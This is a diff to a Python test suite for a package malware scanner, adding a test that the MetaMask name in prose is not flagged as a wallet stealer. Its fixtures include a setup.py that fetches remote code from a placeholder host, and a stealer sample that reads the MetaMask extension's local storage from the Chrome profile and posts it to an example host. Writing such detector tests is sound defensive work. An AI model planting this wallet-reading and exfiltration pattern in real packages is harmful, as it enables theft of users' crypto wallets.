@@ -1558,3 +1558,21 @@ def test_a_version_reader_that_reassigns_its_text_is_followed_to_the_file() -> N
                                "source = __import__('urllib.request').request.urlopen('http://x.example/v').read()")
     result, findings = verdict(sdist("helperlib", "0.1", {**files, "setup.py": fetched}))
     assert result != "clean", findings
+
+
+def test_a_wallet_named_in_prose_is_no_wallet_store() -> None:
+    """"unresolved (phantom/no_binding)" and "@metamask/sdk" beside "local state" in a module that talks
+    to its API (omnibase-core, found by the final rescan of batch 15) read as a stealer while the wallet
+    pattern took a wallet's name before a slash; a stealer reads the wallet extension by its ID."""
+    init = ("import requests\nDESCRIPTION = 'Directory for durable local state'\n"
+            "def check(label):\n    return False, f'{label} unresolved (phantom/no_binding)'\n"
+            "def sdk():\n    return '@metamask/sdk'\n"
+            "def ping():\n    return requests.get('https://api.helperlib.example/ping')\nping()\n")
+    result, findings = verdict(_lib(init))
+    assert result == "clean", findings
+    stealer = init.replace("'@metamask/sdk'", "open(os.path.expanduser('~/.config/google-chrome/Default/Local "
+                                                "Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log'"
+                                                ")).read()").replace("import requests", "import os, requests")
+    stealer = stealer.replace("ping()\n", "requests.post('https://api.helperlib.example/p', data=sdk())\n")
+    result, findings = verdict(_lib(stealer))
+    assert result == "malicious", findings
